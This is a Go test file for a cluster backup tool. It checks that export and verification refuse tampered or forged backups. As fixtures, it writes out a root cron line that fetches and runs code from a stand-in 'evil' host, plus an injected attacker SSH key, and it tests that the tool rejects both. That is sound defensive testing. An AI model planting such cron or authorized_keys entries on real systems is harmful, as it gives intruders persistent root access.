package backup_test

import (
	"bytes"
	"crypto/ed25519"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"filippo.io/age"

	"anvil.dev/anvil/backup"
	"anvil.dev/anvil/backup/envelope"
	"anvil.dev/anvil/backup/envelope/envelopetest"
	"anvil.dev/anvil/internal/hostfs"
	"anvil.dev/anvil/master/mastertest"
	"anvil.dev/anvil/pki"
)

// carriedFiles are a master's BackupFiles as a backup holds them, with
// the mode anvil stores, 0600.
func carriedFiles(t *testing.T, root hostfs.Root) []envelopetest.File {
	t.Helper()
	var fs []envelopetest.File
	for _, p := range backup.BackupFiles() {
		b, err := os.ReadFile(root.Path(p))
		if err != nil {
			t.Fatal(err)
		}
		fs = append(fs, envelopetest.File{Path: strings.TrimPrefix(p, "/"), Mode: 0o600, Data: b})
	}
	return fs
}

// signingKeyOf is the backup signing key of the master at root, and
// keysOf what reads its backups: id, and trust in that key.
func signingKeyOf(t testing.TB, root hostfs.Root) ed25519.PrivateKey {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(root.PKI(), pki.BackupSigningKeyName))
	if err != nil {
		t.Fatal(err)
	}
	k, err := pki.ParseKey(b)
	if err != nil {
		t.Fatal(err)
	}
	return k.(ed25519.PrivateKey)
}

func keysOf(t testing.TB, root hostfs.Root, id age.Identity) backup.Keys {
	t.Helper()
	trust, err := backup.LocalTrust(root, nil, false)
	if err != nil || len(trust.Keys) != 1 {
		t.Fatalf("trust of %s: %v %v", root, trust, err)
	}
	return backup.Keys{Identities: []age.Identity{id}, Trust: trust}
}

func craftHeader(t *testing.T, root hostfs.Root) envelope.BackupHeader {
	t.Helper()
	ca, err := pki.CAHashFromFile(filepath.Join(root.PKI(), "ca.crt"))
	if err != nil {
		t.Fatal(err)
	}
	return envelope.BackupHeader{
		Cluster: "lab", KubernetesVersion: "v1.37.2", EtcdVersion: "3.6.5", Revision: 7,
		Members: []envelope.BackupMember{{Name: "lab-m1", ID: "0123456789abcdef", PeerURLs: []string{"https://10.0.0.11:2380"}}},
		Node:    "lab-m1", Created: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), AnvilVersion: "v0.1.0",
		Trigger: envelope.TriggerManual, CACertHash: ca.String(),
	}
}

// TestExportFilesWritesOnlyWhatBackupsHold plays someone who hands the
// operator a crafted backup to rebuild a master from: export-files runs as
// root, so every record it writes is a file root owns.
func TestExportFilesWritesOnlyWhatBackupsHold(t *testing.T) {
	src := masterRoot(t, mastertest.Cluster())
	id := envelopetest.NewIdentity(t)
	recipients := []string{id.Recipient().String()}
	h := craftHeader(t, src)
	good := carriedFiles(t, src)
	key, keys := signingKeyOf(t, src), keysOf(t, src, id)

	for _, tc := range []struct {
		name  string
		edit  func([]envelopetest.File) []envelopetest.File
		hedit func(*envelope.BackupHeader)
		want  string
	}{
		{name: "an extra cron job", want: "etc/cron.d/x", edit: func(fs []envelopetest.File) []envelopetest.File {
			return append(fs, envelopetest.File{Path: "etc/cron.d/x", Mode: 0o644, Data: []byte("* * * * * root sh -c 'curl evil | sh'\n")})
		}},
		{name: "an extra authorized_keys", want: "root/.ssh/authorized_keys", edit: func(fs []envelopetest.File) []envelopetest.File {
			return append(fs, envelopetest.File{Path: "root/.ssh/authorized_keys", Mode: 0o600, Data: []byte("ssh-ed25519 AAAA attacker\n")})
		}},
		{name: "a file missing", want: "is missing", edit: func(fs []envelopetest.File) []envelopetest.File { return fs[1:] }},
		{name: "a CA the header does not name", want: "the CA inside does not match", hedit: func(h *envelope.BackupHeader) {
			h.CACertHash = "sha256:" + strings.Repeat("0", 64)
		}},
		{name: "a signing key other than the signer's", want: "the backup signing key inside", edit: func(fs []envelopetest.File) []envelopetest.File {
			for i := range fs {
				if strings.HasSuffix(fs[i].Path, pki.BackupSigningPubKeyName) {
					fs[i].Data = []byte("-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEAiojj3XQJ8ZX9UtstPLpdcspnCb8dlBIb83SIAbQPb1w=\n-----END PUBLIC KEY-----\n")
				}
			}
			return fs
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := append([]envelopetest.File(nil), good...)
			if tc.edit != nil {
				files = tc.edit(files)
			}
			hh := h
			if tc.hedit != nil {
				tc.hedit(&hh)
			}
			b := envelopetest.Craft(t, hh, recipients, key, files, envelopetest.EtcdSnapshot(2))
			out := t.TempDir()
			_, err := backup.ExportFiles(bytes.NewReader(b), keys, hostfs.Root(out), true)
			if !errors.Is(err, envelope.ErrCorruptBackup) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("export-files of the crafted backup: %v, want a corrupt backup naming %q", err, tc.want)
			}
			if ents, _ := os.ReadDir(out); len(ents) != 0 {
				t.Errorf("a refused backup wrote %v", ents)
			}
		})
	}

	t.Run("modes are anvil's, not the backup's", func(t *testing.T) {
		files := append([]envelopetest.File(nil), good...)
		for i := range files {
			files[i].Mode = 0o644 // every key readable by all, as stored
		}
		b := envelopetest.Craft(t, h, recipients, key, files, envelopetest.EtcdSnapshot(2))
		out := hostfs.Root(t.TempDir())
		res, err := backup.ExportFiles(bytes.NewReader(b), keys, out, false)
		if err != nil {
			t.Fatal(err)
		}
		if len(res) != len(backup.BackupFiles()) {
			t.Errorf("%d files exported, want %d", len(res), len(backup.BackupFiles()))
		}
		for _, name := range []string{"ca.key", "sa.key", "etcd/ca.key", "ca.crt", "etcd/ca.crt", "sa.pub", "backup-signing.key"} {
			fi, err := os.Stat(filepath.Join(out.PKI(), name))
			if err != nil || fi.Mode().Perm() != 0o600 {
				t.Errorf("%s: %v %v, want mode 0600", name, fi, err)
			}
		}
	})
}

// TestForgedBackupRefused plays the forger of the documented rebuild path
// (export-files, init, restore): without the cluster's signing key, they
// write a backup with their own CA, keys and cluster file, encrypted to
// the cluster's recipient (in every backup's header). inspect, verify,
// export-snapshot and export-files refuse it, and nothing is written
// (restore, on a running master: TestBackupRestoreE2E).
func TestForgedBackupRefused(t *testing.T) {
	src := masterRoot(t, mastertest.Cluster())
	forger := masterRoot(t, mastertest.Cluster()) // another CA, other keys
	id := envelopetest.NewIdentity(t)
	recipients := []string{id.Recipient().String()}
	keys := keysOf(t, src, id)
	forged := envelopetest.Craft(t, craftHeader(t, forger), recipients, signingKeyOf(t, forger), carriedFiles(t, forger), envelopetest.EtcdSnapshot(2))
	// The same, naming the cluster's key in its header.
	claimed := envelopetest.Craft(t, craftHeader(t, forger), recipients, signingKeyOf(t, forger), carriedFiles(t, forger), envelopetest.EtcdSnapshot(2))
	claimed = envelopetest.RewriteHeader(t, claimed, func(h *envelope.BackupHeader) { h.SigningKey = keys.Trust.String() })

	for name, b := range map[string][]byte{"signed by the forger": forged, "naming the cluster's key": claimed} {
		t.Run(name, func(t *testing.T) {
			if _, err := backup.InspectBackup(bytes.NewReader(b), keys); !errors.Is(err, envelope.ErrUntrusted) {
				t.Errorf("inspect: %v, want ErrUntrusted", err)
			}
			if _, err := envelope.VerifyBackup(bytes.NewReader(b), keys.Identities, keys.Trust); !errors.Is(err, envelope.ErrUntrusted) {
				t.Errorf("verify: %v, want ErrUntrusted", err)
			}
			dir := t.TempDir()
			if _, err := backup.ExportSnapshot(bytes.NewReader(b), keys, filepath.Join(dir, "db")); !errors.Is(err, envelope.ErrUntrusted) {
				t.Errorf("export-snapshot: %v, want ErrUntrusted", err)
			}
			out := hostfs.Root(filepath.Join(dir, "root"))
			if _, err := backup.ExportFiles(bytes.NewReader(b), keys, out, true); !errors.Is(err, envelope.ErrUntrusted) {
				t.Errorf("export-files: %v, want ErrUntrusted", err)
			}
			if ents, _ := os.ReadDir(dir); len(ents) != 0 {
				t.Errorf("a forged backup wrote %v", ents)
			}
		})
	}
	// The genuine one passes with the same keys.
	good := envelopetest.Craft(t, craftHeader(t, src), recipients, signingKeyOf(t, src), carriedFiles(t, src), envelopetest.EtcdSnapshot(2))
	if _, err := backup.ExportFiles(bytes.NewReader(good), keys, hostfs.Root(t.TempDir()), false); err != nil {
		t.Errorf("export-files of the genuine backup: %v", err)
	}
}
